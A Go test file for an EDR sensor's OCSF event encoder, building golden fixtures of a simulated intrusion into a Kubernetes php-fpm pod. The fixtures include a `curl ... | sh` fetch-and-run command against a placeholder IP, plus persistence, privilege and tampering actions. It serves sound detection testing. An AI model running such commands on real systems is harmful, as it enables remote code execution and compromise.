// SPDX-License-Identifier: Apache-2.0

package ocsf

import (
	"bytes"
	"encoding/json"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aurorasoc/edr-sensor/sensor/event"
	"github.com/aurorasoc/edr-sensor/sensor/ocsf/ocsftest"
)

var update = flag.Bool("update", false, "write the golden files and docs/events.md")

const (
	testSeq   = 41001
	testEpoch = "0193a5f0c0de1a2b3c4d"
	testKTime = 446_000_123_456_789
)

// Wall time of the test events and of their encoding.
var (
	testTime = time.Date(2026, 11, 23, 15, 0, 0, 123456789, time.UTC).UnixNano()
	testNow  = testTime + int64(2*time.Millisecond)
)

func testHost() event.Host {
	return event.Host{
		Hostname: "web-01.prod.example.com", MachineID: "5f1e2d3c4b5a69788796a5b4c3d2e1f0",
		BootID: "2899dae4-4fa4-4eef-95b6-6bc95325f61a", BootTime: time.UnixMilli(1795000000000),
		OSName: "Debian GNU/Linux", OSVersion: "12", KernelRelease: "6.1.0-28-amd64",
		IP: "10.20.0.15", CPUBits: 64, PIDNS: 4026531836,
	}
}

func testAgent() event.Agent {
	return event.Agent{ID: "018f3c6e-7b5a-7c31-9d55-0b1de5f0a001", Version: "0.1.0", Tenant: "tenant-7"}
}

func newTestEncoder() *Encoder {
	e := New(testHost(), testAgent())
	e.Bind(testEpoch)
	return e
}

func testNamespaces() event.Namespaces {
	return event.Namespaces{
		Mnt: 4026532256, PID: 4026532263, Net: 4026532265, User: 4026531837,
		UTS: 4026532257, IPC: 4026532258, Cgroup: 4026532264, Time: 4026531834,
	}
}

const podCgroup = "/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod0b6d2f2e_6d65_4f2b_9f0e_3a9f5f3c1c11.slice/cri-containerd-ac2ea168264a08f9aaca0dfc82ff3551418dfd22d02b713142a6843caa2f61bf.scope"

func testContainer() *event.Container {
	return &event.Container{
		ID:      "ac2ea168264a08f9aaca0dfc82ff3551418dfd22d02b713142a6843caa2f61bf",
		Runtime: "containerd", Orchestrator: "kubernetes", PodUUID: "0b6d2f2e-6d65-4f2b-9f0e-3a9f5f3c1c11",
	}
}

// shell is a shell that php-fpm started in a pod.
func shell() *event.Process {
	return &event.Process{
		Key: event.ProcessKey{PID: 2310, StartTime: testKTime - 1_500_000}, Parent: php().Key,
		CPID: "4787daf7-42c2-81ad-8e7c-e4b35ad10a75", NSPID: 41, Comm: "sh",
		Path: "/usr/bin/dash", CmdLine: `sh -c 'curl -fsSL http://198.51.100.23/x|sh'`, CWD: "/var/www/html",
		File: event.File{
			Ino: 1310900, Size: 125688, MTime: 1672940000_000000000, CTime: 1794000000_500000000,
			DevMajor: 259, DevMinor: 2, Mode: 0o100755, Nlink: 1, FSMagic: 0xef53,
		},
		SHA256: "6bfb5004339731b0429ac20ef9a649fce6473252ef4c6d4aba196a3e5b411a6a",
		Cred:   event.Cred{UID: 33, GID: 33, EUID: 33, EGID: 33, SUID: 33, SGID: 33, FSUID: 33, FSGID: 33, CapBounding: 0xa80425fb, SeccompMode: 2},
		User:   "www-data", Group: "www-data", Owner: "root", NS: testNamespaces(),
		CgroupID: 12045, CgroupPath: podCgroup, Container: testContainer(),
		LoginUID: event.Unset, SessionID: event.Unset,
	}
}

func php() *event.Process {
	p := &event.Process{
		Key: event.ProcessKey{PID: 2001, StartTime: testKTime - 1_000_000_000_000}, Parent: event.ProcessKey{PID: 1990, StartTime: 5_000_000_000},
		CPID: "1c44383d-5420-8796-a12e-a833eb87ce7b", NSPID: 7, Comm: "php-fpm8.2",
		Path: "/usr/sbin/php-fpm8.2", CmdLine: "php-fpm: pool www", CWD: "/var/www/html",
		File: event.File{
			Ino: 1310721, Size: 5702912, MTime: 1672940000_000000000, CTime: 1794000000_000000000,
			DevMajor: 259, DevMinor: 2, Mode: 0o100755, Nlink: 1, FSMagic: 0xef53,
		},
		SHA256: "f6091c59029547157805b9bce24ac7e41d7e8f099258792db16ca32daae453a8",
		Cred:   event.Cred{UID: 33, GID: 33, EUID: 33, EGID: 33},
		User:   "www-data", Group: "www-data", Owner: "root", NS: testNamespaces(),
		CgroupID: 12045, CgroupPath: podCgroup, Container: testContainer(),
		LoginUID: event.Unset, SessionID: event.Unset,
	}
	return p
}

func ancestors() []*event.Process {
	return []*event.Process{
		php(),
		{
			Key: event.ProcessKey{PID: 1990, StartTime: 5_000_000_000}, CPID: "94346081-dd7d-8932-92ca-64a5a07aa32c", Comm: "php-fpm8.2",
			Path: "/usr/sbin/php-fpm8.2", CmdLine: `'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'`,
		},
		{
			Key: event.ProcessKey{PID: 1950, StartTime: 4_000_000_000}, CPID: "c62be3bd-61e6-894c-a47c-a954a664c606", Comm: "containerd-shim",
			Path: "/usr/bin/containerd-shim-runc-v2", CmdLine: "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io",
		},
		{
			Key: event.ProcessKey{PID: 1, StartTime: 10_000_000}, CPID: "aa11bb22-cc33-8d44-8e55-ff6600778899", Comm: "systemd",
			Path: "/usr/lib/systemd/systemd", CmdLine: "/sbin/init",
		},
	}
}

// login is bash of a person who logged in, outside any container.
func login() *event.Process {
	return &event.Process{
		Key: event.ProcessKey{PID: 3100, StartTime: testKTime - 60_000_000_000}, Parent: event.ProcessKey{PID: 3099, StartTime: 900},
		CPID: "7ba07b8a-dbb1-8b58-9085-26c0d929675b", NSPID: 3100, Comm: "bash", Path: "/usr/bin/bash", CmdLine: "-bash", CWD: "/home/zoë", TTY: "pts/3",
		File: event.File{Ino: 77, Size: 1265648, MTime: 1682261000_000000000, CTime: 1794000000_000000000, DevMajor: 254, DevMinor: 1, Mode: 0o100755, Nlink: 1, FSMagic: 0x9123683e},
		Cred: event.Cred{UID: 1000, GID: 1000, EUID: 1000, EGID: 1000, SUID: 1000, SGID: 1000, FSUID: 1000, FSGID: 1000, CapBounding: 0x1ffffffffff},
		User: "zoë", Group: "zoë", Owner: "root", HashNote: "rate", NS: testNamespaces(), CgroupID: 4711, CgroupPath: "/user.slice/user-1000.slice/session-3.scope",
		LoginUID: 1000, SessionID: 3,
	}
}

func execEvent() event.Event {
	p := shell()
	ev := event.Event{
		Kind: event.Exec, KTime: testKTime, Time: testTime, Actor: p.Key, TID: p.Key.PID, Hook: "tp_btf/sched_process_exec",
		Subject: p, Parent: php(), Creator: php(), Ancestors: ancestors(),
	}
	ev.Exec = event.ExecInfo{
		Parent: php().Key, NSPID: p.NSPID, Cred: p.Cred, NS: p.NS, Exe: p.File, CgroupID: p.CgroupID,
		LoginUID: event.Unset, SessionID: event.Unset, Comm: []byte("sh"), Filename: []byte("/bin/sh"), Interp: []byte("/bin/sh"),
		ExePath: []byte("/usr/bin/dash"), CWD: []byte("/var/www/html"), CgroupPath: []byte(podCgroup),
		Argv: []byte("sh\x00-c\x00curl -fsSL http://198.51.100.23/x|sh\x00"), OldPath: "/usr/sbin/php-fpm8.2",
	}
	ev.Exec.ArgvSize = uint32(len(ev.Exec.Argv))
	return ev
}

// suidExec is an exec with about everything that can be unusual.
func suidExec() event.Event {
	ev := execEvent()
	p := login()
	p.Key = event.ProcessKey{PID: 3101, StartTime: testKTime - 10}
	p.Path, p.Comm, p.CWD = "/tmp/\xffdrop \"me\"", "dr\xf0p", "/tmp/\x01\xfe"
	p.Cred.EUID, p.Cred.SUID, p.Cred.FSUID, p.Cred.SGID, p.Cred.FSGID = 0, 1000, 1000, 0, 0
	p.Cred.CapPermitted, p.Cred.CapEffective, p.Cred.CapInheritable, p.Cred.CapAmbient, p.Cred.Securebits = 0x1ffffffffff, 0x1ffffffffff, 0x400, 0x400, 1
	p.File.Mode, p.File.Nlink = 0o104755, 0
	p.NSPID = 12
	p.Flags = event.FlagDeleted | event.FlagMemfd | event.FlagCgroupV1
	p.CgroupPath = "/user.slice/\xe9"
	ev.Subject, ev.Parent, ev.Creator, ev.Ancestors = p, login(), login(), []*event.Process{login()}
	ev.Actor, ev.TID = p.Key, 3105
	ev.Exec.Flags = p.Flags | event.FlagScript | event.FlagSecureExec | event.FlagExeTruncated | event.FlagCWDTruncated | event.FlagCgroupTruncated | event.FlagArgvFault
	ev.Exec.Filename, ev.Exec.Interp = []byte("/dev/fd/3\xff"), []byte("/usr/bin/env\xff")
	ev.Exec.Argv = []byte("dr'op\x00\x00\xff\x80\x00\u202e\t\x1b[0m\x00ünï\x00tail without nul")
	ev.Exec.ArgvSize = uint32(len(ev.Exec.Argv))
	ev.Exec.OldPath = "/usr/bin/bash\xff"
	ev.Cases = []*event.Case{{ID: "CASE-7", InvestigationID: "INV-3", UserID: "analyst"}, {ID: "CASE-9"}}
	return ev
}

func longArgv(n int) event.Event {
	ev := execEvent()
	ev.Exec.Argv = append([]byte("echo\x00"), append(bytes.Repeat([]byte("0123456 "), n/8), 0)...)
	ev.Exec.ArgvSize = uint32(len(ev.Exec.Argv))
	return ev
}

func cutArgv() event.Event {
	ev := longArgv(5000)
	ev.Exec.Flags |= event.FlagArgvTruncated
	ev.Exec.ArgvSize = 300000
	return ev
}

func exitEvent() event.Event {
	p := shell()
	p.Exited = true
	return event.Event{
		Kind: event.Exit, KTime: testKTime + 900_000_000, Time: testTime + 900_000_000, Actor: p.Key, TID: p.Key.PID, Hook: "tp_btf/sched_process_exit",
		Exit: event.ExitInfo{Parent: php().Key, UTime: 3_400_000, STime: 5_900_000, Code: 22, Comm: []byte("sh")}, Subject: p, Parent: php(),
	}
}

func killedEvent() event.Event {
	ev := exitEvent()
	ev.Exit.Code, ev.Exit.Signal, ev.Exit.CoreDumped = 0, 11, true
	ev.Subject = login()
	ev.Subject.CmdLine = strings.Repeat("x", event.MaxCmdLine)
	ev.Subject.Flags = event.FlagCWDTruncated
	ev.TID = 3104
	ev.Parent = nil
	return ev
}

func forkEvent() event.Event {
	child := shell()
	child.Key = event.ProcessKey{PID: 2309, StartTime: testKTime - 1000}
	child.Path, child.CmdLine, child.Comm = php().Path, php().CmdLine, php().Comm
	return event.Event{
		Kind: event.Fork, KTime: testKTime, Time: testTime, Actor: php().Key, TID: 2001, Hook: "tp_btf/sched_process_fork",
		Fork: event.ForkInfo{Child: child.Key, NSPID: 40, Comm: []byte("php-fpm8.2")}, Subject: child, Parent: php(), Creator: php(),
	}
}

func taskEvent() event.Event {
	p := login()
	ev := event.Event{
		Kind: event.Task, KTime: testKTime, Time: testTime, Actor: p.Key, TID: p.Key.PID, Hook: "iter/task",
		Subject: p, Parent: nil,
	}
	ev.Exec.Parent = p.Parent
	return ev
}

func kthreadEvent() event.Event {
	ev := taskEvent()
	ev.Subject = &event.Process{
		Key: event.ProcessKey{PID: 2, StartTime: 20_000_000}, CPID: "0a0b0c0d-0102-8304-8506-0708090a0b0c", NSPID: 2, Comm: "kthreadd",
		Flags: event.FlagKThread, Cred: event.Cred{CapPermitted: 0x1ffffffffff, CapEffective: 0x1ffffffffff, CapBounding: 0x1ffffffffff}, User: "root", Group: "root",
		NS: event.Namespaces{Mnt: 4026531841}, LoginUID: event.Unset, SessionID: event.Unset,
	}
	ev.Actor, ev.TID, ev.Exec.Parent = ev.Subject.Key, 2, event.ProcessKey{}
	return ev
}

func tcpEvent(k event.Kind) event.Event {
	p := shell()
	ev := event.Event{
		Kind: k, KTime: testKTime, Time: testTime, Actor: p.Key, TID: p.Key.PID, Hook: "tp_btf/inet_sock_set_state",
		Subject: p, Parent: php(), Ancestors: ancestors(),
	}
	ev.TCP = event.TCPInfo{
		ConnID: 0x7f3d9c21a0b1, Opened: testKTime, CgroupID: 12045, NetNS: 4026532265, Flags: event.TCPInitiated,
		Local: netip.MustParseAddrPort("10.244.3.17:48212"), Remote: netip.MustParseAddrPort("198.51.100.23:80"),
	}
	return ev
}

func closeEvent() event.Event {
	ev := tcpEvent(event.TCPClose)
	ev.TCP.Opened = testKTime - 760_000_000
	ev.TCP.BytesSent, ev.TCP.BytesReceived, ev.TCP.SegsOut, ev.TCP.SegsIn = 412, 17828, 9, 13
	ev.TCP.Retransmits, ev.TCP.SRTT = 1, 23_400
	return ev
}

func acceptedEvent(k event.Kind) event.Event {
	ev := closeEvent()
	ev.Kind = k
	ev.TCP.Flags = event.TCPOwnerListener
	ev.TCP.Local, ev.TCP.Remote = netip.MustParseAddrPort("[::ffff:10.20.0.15]:443"), netip.MustParseAddrPort("[::ffff:100.64.7.9]:50222")
	return ev
}

func resetEvent() event.Event {
	ev := acceptedEvent(event.TCPClose)
	ev.TCP.Errno = 104
	ev.TCP.Local, ev.TCP.Remote = netip.MustParseAddrPort("[2001:db8::1]:443"), netip.MustParseAddrPort("[fe80::7%eth0]:50222")
	ev.Creator = login()
	ev.TCP.Closer = ev.Creator.Key
	return ev
}

func earlyClose() event.Event {
	ev := closeEvent()
	ev.TCP.Flags = event.TCPEarly | event.TCPOwnerUnknown
	ev.TCP.Opened = 0
	ev.Subject, ev.Parent, ev.Ancestors, ev.Actor, ev.TID = nil, nil, nil, event.ProcessKey{}, 0
	return ev
}

func failedEvent(errno int32) event.Event {
	ev := tcpEvent(event.TCPConnectFailed)
	ev.TCP.Errno = errno
	ev.TCP.Opened = testKTime - 3_000_000
	ev.TCP.Local, ev.TCP.Remote = netip.MustParseAddrPort("127.0.0.1:40000"), netip.MustParseAddrPort("127.0.0.1:9")
	return ev
}

// fileEvent is a change that the shell makes in its container, on its root file system.
func fileEvent(k event.Kind, path string) event.Event {
	p := shell()
	return event.Event{
		Kind: k, KTime: testKTime, Time: testTime, Actor: p.Key, TID: p.Key.PID, Hook: fileHooks()[k], Subject: p, Parent: php(), Ancestors: ancestors(),
		File: event.FileInfo{
			File: event.File{
				Ino: 1320001, Size: 4096, MTime: 1795445000_123000000, CTime: 1795445000_124000000,
				DevMajor: 259, DevMinor: 2, Mode: 0o100644, Nlink: 1, UID: 33, GID: 33, FSMagic: 0xef53,
			},
			Owner: "www-data", Path: []byte(path), MntNS: 4026532256, CgroupID: 12045,
		},
	}
}

func fileHooks() map[event.Kind]string {
	const setattr = "fentry/security_inode_setattr"
	return map[event.Kind]string{
		event.FileCreate: "lsm/path_mknod", event.FileModify: "lsm/file_open, lsm/file_release", event.FileDelete: "lsm/path_unlink, lsm/path_rmdir",
		event.FileRename: "lsm/path_rename", event.FileLink: "lsm/path_link", event.FileSymlink: "lsm/path_symlink", event.FileMkdir: "lsm/path_mkdir",
		event.FileChmod: setattr, event.FileChown: setattr, event.FileTruncate: setattr, event.FileTimes: setattr,
		event.FileXattr:  "kprobe/security_inode_setxattr, kprobe/security_inode_removexattr",
		event.FileChattr: "fentry/vfs_fileattr_set",
		event.Mount:      "lsm/sb_mount", event.Umount: "lsm/sb_umount", event.MountMove: "lsm/move_mount",
	}
}

// changed is a fileEvent with more.
func changed(k event.Kind, path string, change func(*event.FileInfo)) event.Event {
	ev := fileEvent(k, path)
	change(&ev.File)
	return ev
}

// fresh is a fileEvent of what is not there yet.
func fresh(k event.Kind, path string, mode uint32) event.Event {
	return changed(k, path, func(f *event.FileInfo) {
		f.File, f.Owner, f.NewMode, f.Flags = event.File{}, "", mode, event.FileNewMode
	})
}

// fromSyscall is a fileEvent that only the arguments of a system call tell of.
func fromSyscall(k event.Kind, path string, change func(*event.FileInfo)) event.Event {
	ev := changed(k, path, func(f *event.FileInfo) {
		f.File, f.Owner, f.Flags = event.File{}, "", event.FileDegraded
		if path[0] != '/' {
			f.Flags |= event.FileRelative
		}
	})
	change(&ev.File)
	ev.Hook = "raw_tp/sys_exit"
	return ev
}

// fromOpen is a fileEvent of a system call on an open file: the path is the kernel's.
func fromOpen(k event.Kind, change func(*event.FileInfo)) event.Event {
	ev := changed(k, "/var/www/html/.cache.php", func(f *event.FileInfo) { f.Flags = event.FileDegraded | event.FileWalked })
	change(&ev.File)
	ev.Hook = "raw_tp/sys_exit"
	return ev
}

// opened is a file that a system call opened.
func opened(k event.Kind) event.Event {
	return fromOpen(k, func(f *event.FileInfo) { f.OpenFlags = 0x401 })
}

func folder(f *event.FileInfo) {
	f.File.Mode, f.File.Nlink, f.Flags = 0o40755, 2, f.Flags|event.FileDirectory
}

// sensorProcess is the sensor as it sees itself.
func sensorProcess() *event.Process {
	return &event.Process{
		Key: event.ProcessKey{PID: 812, StartTime: 6_000_000_000}, CPID: "5a8e2f10-0f4d-8c21-b7e3-91d0c3a4f5e6", NSPID: 812, Comm: "edr-sensor",
		Path: "/usr/bin/edr-sensor", CmdLine: "/usr/bin/edr-sensor run",
		File: event.File{Ino: 4242, Size: 18000000, DevMajor: 254, DevMinor: 1, Mode: 0o100755, Nlink: 1},
		Cred: event.Cred{UID: 997, GID: 997, EUID: 997, EGID: 997}, User: "edr-sensor", Group: "edr-sensor", NS: event.Namespaces{Mnt: 4026532256},
		LoginUID: event.Unset, SessionID: event.Unset,
	}
}

func signalEvent() event.Event {
	target := sensorProcess()
	return event.Event{
		Kind: event.Signal, KTime: testKTime, Time: testTime, Actor: login().Key, TID: login().Key.PID, Hook: "tp_btf/signal_generate", Severity: 4,
		Subject: target, Creator: login(), Tamper: event.TamperInfo{Target: target.Key, TID: target.Key.PID, Signal: 9},
	}
}

func stopSignal() event.Event {
	ev := signalEvent()
	ev.Tamper.Signal, ev.Tamper.Result, ev.Tamper.Code, ev.Tamper.TID = 19, 2, -6, 815
	ev.Subject, ev.Creator = nil, nil
	return ev
}

func kernelSignal() event.Event {
	ev := signalEvent()
	ev.Tamper.Flags, ev.Tamper.Result, ev.Severity = event.TamperByKernel, 1, 0
	return ev
}

func ptraceEvent() event.Event {
	ev := signalEvent()
	ev.Kind, ev.Hook = event.Ptrace, "lsm/ptrace_access_check"
	ev.Tamper = event.TamperInfo{Target: ev.Subject.Key, TID: 815, Mode: 0x12}
	return ev
}

func degradedPtrace(call event.TamperCall) event.Event {
	ev := ptraceEvent()
	ev.Hook = "raw_tp/sys_exit"
	ev.Tamper.Mode, ev.Tamper.Call, ev.Tamper.Flags = 0, call, event.TamperDegraded
	if call == event.TamperCallPtrace {
		ev.Tamper.Request = 0x4206
	}
	return ev
}

// ofSensor is a change of the sensor's own configuration.
func ofSensor() event.Event {
	ev := changed(event.FileModify, "/etc/edr-sensor/edr-sensor.yaml", func(f *event.FileInfo) { f.OpenFlags, f.Flags = 1, event.FileOfConfig })
	ev.Severity = 4
	return ev
}

// fileGoldens has every kind of change, as good hooks see it and as system calls do.
func fileGoldens() []golden {
	const php = "/var/www/html/.cache.php"
	unknown := fileEvent(event.FileDelete, php)
	unknown.Subject, unknown.Parent, unknown.Ancestors = nil, nil, nil
	return []golden{
		{"file.create", fresh(event.FileCreate, php, 0o100644)},
		{"file.create-fifo", fresh(event.FileCreate, "/tmp/f", 0o010600)},
		{"file.create-degraded", opened(event.FileCreate)},
		{"file.write", changed(event.FileModify, php, func(f *event.FileInfo) {
			f.OpenFlags, f.Written, f.Flags = 0x401, 1780, event.FileCreatedHere
		})},
		{"file.write-cut", changed(event.FileModify, "deep/er/.cache\xff.php", func(f *event.FileInfo) {
			f.OpenFlags, f.Flags, f.Suppressed = 2, event.FilePathTruncated, 812
		})},
		{"file.write-early", changed(event.FileModify, "/var/log/app.log", func(f *event.FileInfo) {
			f.OpenFlags, f.Written, f.Flags = 0x401, 120, event.FileEarly
		})},
		{"file.write-sensor", ofSensor()},
		{"file.delete", fileEvent(event.FileDelete, php)},
		{"file.delete-other-link", changed(event.FileDelete, php, func(f *event.FileInfo) { f.File.Nlink = 3 })},
		{"file.delete-folder", changed(event.FileDelete, "/var/www/html/old", folder)},
		{"file.delete-unknown", unknown},
		{"file.delete-degraded", fromSyscall(event.FileDelete, "cache/../.cache.php", func(*event.FileInfo) {})},
		{"file.rename", changed(event.FileRename, "/tmp/.x", func(f *event.FileInfo) {
			f.Path2, f.Flags, f.TargetIno, f.File.Mode = []byte("/etc/cron.d/php-sess"), event.FileReplaced, 1320444, 0o100755
		})},
		{"file.rename-exchanged", changed(event.FileRename, "/tmp/.x", func(f *event.FileInfo) {
			f.Path2, f.Flags, f.TargetIno = []byte("er/y\xfe"), event.FileExchanged|event.FileWhiteout|event.FilePath2Truncated, 1320444
		})},
		{"file.rename-degraded", fromSyscall(event.FileRename, "/tmp/.x", func(f *event.FileInfo) { f.Path2 = []byte("php-sess") })},
		{"file.link", changed(event.FileLink, "/usr/bin/sudo", func(f *event.FileInfo) {
			f.Path2, f.File.Mode, f.File.UID, f.Owner = []byte("/tmp/s"), 0o104755, 0, "root"
		})},
		{"file.link-cut", changed(event.FileLink, "bin/sudo\xfe", func(f *event.FileInfo) {
			f.Path2, f.Flags = []byte("s"), event.FilePathTruncated|event.FilePath2Truncated
		})},
		{"file.link-degraded", fromSyscall(event.FileLink, "sudo", func(f *event.FileInfo) { f.Path2 = []byte("/tmp/s") })},
		{"file.symlink", changed(event.FileSymlink, "/tmp/l", func(f *event.FileInfo) {
			f.File, f.Owner, f.Path2 = event.File{}, "", []byte("../etc/shadow")
		})},
		{"file.symlink-degraded", fromSyscall(event.FileSymlink, "l", func(f *event.FileInfo) { f.Path2 = []byte("../etc/\xfe") })},
		{"file.mkdir", fresh(event.FileMkdir, "/var/www/html/.d", 0o755)},
		{"file.mkdir-degraded", fromSyscall(event.FileMkdir, ".d/", func(f *event.FileInfo) {
			f.NewMode, f.Flags = 0o755, f.Flags|event.FileNewMode|event.FileDirectory
		})},
		{"file.chmod", changed(event.FileChmod, "/tmp/.x", func(f *event.FileInfo) { f.NewMode, f.Flags = 0o104755, event.FileNewMode })},
		{"file.chmod-degraded", fromSyscall(event.FileChmod, ".x", func(f *event.FileInfo) { f.NewMode, f.Flags = 0o4755, f.Flags|event.FileNewMode })},
		{"file.chmod-descriptor", fromOpen(event.FileChmod, func(f *event.FileInfo) {
			f.File.Mode, f.NewMode, f.Flags = 0o104755, 0o4755, f.Flags|event.FileNewMode
		})},
		{"file.chown", changed(event.FileChown, "/tmp/.x", func(f *event.FileInfo) {
			f.NewUID, f.NewGID, f.NewOwner, f.Flags = 0, 0, "root", event.FileNewUID|event.FileNewGID
			f.File.Mode, f.NewMode, f.Flags = 0o104755, 0o100755, f.Flags|event.FileNewMode
		})},
		{"file.chown-degraded", fromSyscall(event.FileChown, ".x", func(f *event.FileInfo) { f.NewGID, f.Flags = 7, f.Flags|event.FileNewGID })},
		{"file.truncate", changed(event.FileTruncate, "/var/log/auth.log", func(f *event.FileInfo) { f.NewSize, f.Flags = 0, event.FileNewSize })},
		{"file.truncate-degraded", fromSyscall(event.FileTruncate, "/var/log/auth.log", func(f *event.FileInfo) { f.Flags |= event.FileNewSize })},
		{"file.truncate-descriptor", fromOpen(event.FileTruncate, func(f *event.FileInfo) {
			f.File.Size, f.NewSize, f.Flags = 7, 7, f.Flags|event.FileNewSize
		})},
		{"file.xattr", changed(event.FileXattr, "/tmp/.x", func(f *event.FileInfo) { f.Name = []byte("security.capability") })},
		{"file.xattr-user", changed(event.FileXattr, "/", func(f *event.FileInfo) {
			folder(f)
			f.Name, f.Flags = []byte("user.note\xff"), f.Flags|event.FileXattrRemoved
		})},
		{"file.xattr-degraded", fromSyscall(event.FileXattr, ".x", func(f *event.FileInfo) { f.Name = []byte("system.posix_acl_access") })},
		{"file.chattr", changed(event.FileChattr, "/etc/ld.so.preload", func(f *event.FileInfo) { f.Attributes, f.NewAttributes = 0x20, 0x80030 })},
		{"file.chattr-argument", changed(event.FileChattr, "/srv", func(f *event.FileInfo) {
			folder(f)
			f.Attributes, f.Flags = 0x10, f.Flags|event.FileArgument
		})},
		{"file.chattr-degraded", fromOpen(event.FileChattr, func(f *event.FileInfo) { f.NewAttributes = 0x10 })},
		{"file.timestomp", changed(event.FileTimes, "/tmp/.x", func(f *event.FileInfo) {
			f.NewMTime, f.NewATime, f.Flags = 1672940000_000000000, 1672940000_000000000, event.FileNewMTime|event.FileNewATime
		})},
		{"file.timestomp-degraded", fromSyscall(event.FileTimes, ".x", func(f *event.FileInfo) { f.NewMTime, f.Flags = -1, f.Flags|event.FileNewMTime })},
		{"file.mount", changed(event.Mount, "/mnt/t", func(f *event.FileInfo) {
			folder(f)
			f.Path2, f.Name, f.OpenFlags = []byte("/dev/loop0"), []byte("ext4"), 2|4
		})},
		{"file.mount-degraded", fromSyscall(event.Mount, "/mnt/t", func(f *event.FileInfo) {
			f.Path2, f.Name, f.OpenFlags = []byte("no\xfene"), []byte("tm\xfefs"), 0
		})},
		{"file.umount", changed(event.Umount, "/mnt/t", func(f *event.FileInfo) {
			folder(f)
			f.Name, f.OpenFlags = []byte("ext4"), 2
		})},
		{"file.umount-degraded", fromSyscall(event.Umount, "t", func(*event.FileInfo) {})},
		{"file.move_mount", changed(event.MountMove, "/mnt/t", func(f *event.FileInfo) {
			folder(f)
			f.Path2 = []byte("/usr/lib")
		})},
		{"file.move_mount-degraded", fromSyscall(event.MountMove, "\xfe", func(f *event.FileInfo) { f.Path2 = []byte("/usr/lib") })},
		{"file.open_write", opened(event.FileOpenWrite)},
	}
}

func selfEvent(s event.SelfInfo) event.Event {
	return event.Event{Kind: event.Lifecycle, Time: testTime, Hook: "userspace/agent", Self: &s}
}

type golden struct {
	name string
	ev   event.Event
}

// goldens has at least one event of every kind, and the unusual ones.
func goldens() []golden {
	listen := tcpEvent(event.TCPListen)
	listen.TCP.Flags, listen.TCP.Backlog = 0, 128
	listen.TCP.Local, listen.TCP.Remote = netip.MustParseAddrPort("[::]:4444"), netip.AddrPort{}
	static := execEvent()
	static.Subject.Container.PodUUID = "8fd2a1b0c3d4e5f60718293a4b5c6d7e"
	unknown := execEvent()
	unknown.Subject, unknown.Parent, unknown.Creator, unknown.Ancestors = nil, nil, nil, nil
	unknownExit := exitEvent()
	unknownExit.Subject, unknownExit.Parent = nil, nil
	unknownConnect := tcpEvent(event.TCPConnect)
	unknownConnect.Subject, unknownConnect.Parent = nil, nil
	stop := selfEvent(event.SelfInfo{Activity: event.ActivityStop, Message: "stopped: SIGTERM"})
	stop.Subject, stop.Actor, stop.KTime = login(), login().Key, testKTime
	return append([]golden{
		{"process.exec", execEvent()},
		{"process.exec-unusual", suidExec()},
		{"process.exec-long-argv", longArgv(5000)},
		{"process.exec-cut-argv", cutArgv()},
		{"process.exec-static-pod", static},
		{"process.exec-unknown", unknown},
		{"process.fork", forkEvent()},
		{"process.exit", exitEvent()},
		{"process.exit-signal", killedEvent()},
		{"process.exit-unknown", unknownExit},
		{"process.snapshot", taskEvent()},
		{"process.snapshot-kernel-thread", kthreadEvent()},
		{"process.signal", signalEvent()},
		{"process.signal-stop", stopSignal()},
		{"process.signal-kernel", kernelSignal()},
		{"process.ptrace", ptraceEvent()},
		{"process.ptrace-degraded", degradedPtrace(event.TamperCallPtrace)},
		{"process.ptrace-vm-read", degradedPtrace(event.TamperCallVMRead)},
		{"process.ptrace-vm-write", degradedPtrace(event.TamperCallVMWrite)},
		{"net.connect", tcpEvent(event.TCPConnect)},
		{"net.connect-unknown", unknownConnect},
		{"net.connect_failed", failedEvent(111)},
		{"net.connect_failed-reset", failedEvent(104)},
		{"net.connect_failed-timeout", failedEvent(110)},
		{"net.accept", acceptedEvent(event.TCPAccept)},
		{"net.listen", listen},
		{"net.close", closeEvent()},
		{"net.close-accepted", acceptedEvent(event.TCPClose)},
		{"net.close-reset", resetEvent()},
		{"net.close-early", earlyClose()},
		{"sensor.start", selfEvent(event.SelfInfo{
			Activity: event.ActivityStart, Message: "sensor started",
			Attrs: map[string]any{"kernel_btf": true, "programs": 9, "coverage": []map[string]any{{"event": "process.exec", "hook": "tp_btf/sched_process_exec"}}},
		})},
		{"sensor.stop", stop},
		{"sensor.degraded", selfEvent(event.SelfInfo{
			Activity: event.ActivityDegraded, Severity: 3, Failed: true, Code: "HOOK_MISSING",
			Message: "net.listen has no hook on this kernel", Attrs: map[string]any{"event": "net.listen"},
		})},
		{"sensor.lost_events", selfEvent(event.SelfInfo{
			Activity: event.ActivityLost, Severity: 4, Failed: true, Code: "RINGBUF_FULL", Message: "the kernel had no room for 1520 events",
			Count: 1520, From: time.UnixMilli(1795445990000), To: time.UnixMilli(1795446000000),
			ByKind: map[string]uint64{"process.exec": 1400, "net.connect": 120},
		})},
		{"sensor.lost_events-records", selfEvent(event.SelfInfo{
			Activity: event.ActivityLost, Severity: 4, Failed: true, Code: "RECORDS_LOST", Message: "611 records will not be delivered",
			Count: 611, From: time.UnixMilli(1795445990000), To: time.UnixMilli(1795446000000),
			Losses: []event.Loss{{Cause: "truncated", First: 1000, Last: 1609, Count: 610}, {Cause: "corrupt", First: 2000, Last: 2000, Count: 1}},
		})},
		{"sensor.mode_change", selfEvent(event.SelfInfo{
			Activity: event.ActivityMode, Severity: 2, Code: "TRANSPORT_DOWN", Message: "Redis is not reachable: events are kept on disk",
			Before: "online", After: "buffering",
		})},
		{"sensor.rewind", selfEvent(event.SelfInfo{
			Name: "Rewind", Severity: 3, Code: "SERVER_WENT_BACK", Message: "the server lost acknowledged records; sending from 812 again",
			Attrs: map[string]any{"from": 812, "acked": 1400},
		})},
		{"sensor.case_opened", selfEvent(event.SelfInfo{
			Stream: event.DecisionsApprovals, Name: "Case Opened", Severity: 1, Code: "CASE_OPENED", Message: "a case was opened on a subtree",
			CaseID: "C-17", InvestigationID: "I-4", UserID: "mara", Attrs: map[string]any{"scope": "subtree:4711", "peer_uid": 1000},
		})},
		{"sensor.suppressed", selfEvent(event.SelfInfo{
			Stream: event.DecisionsAgents, Activity: event.ActivitySuppressed, Severity: 1, Code: "SUPPRESSED", Message: "93120 events were left out, as sensor.file says",
			Count: 93120, From: time.UnixMilli(1795445990000), To: time.UnixMilli(1795446000000),
			ByKind: map[string]uint64{"file.create": 46560, "file.write": 46560},
		})},
	}, fileGoldens()...)
}

// pretty encodes one event the way its golden file has it.
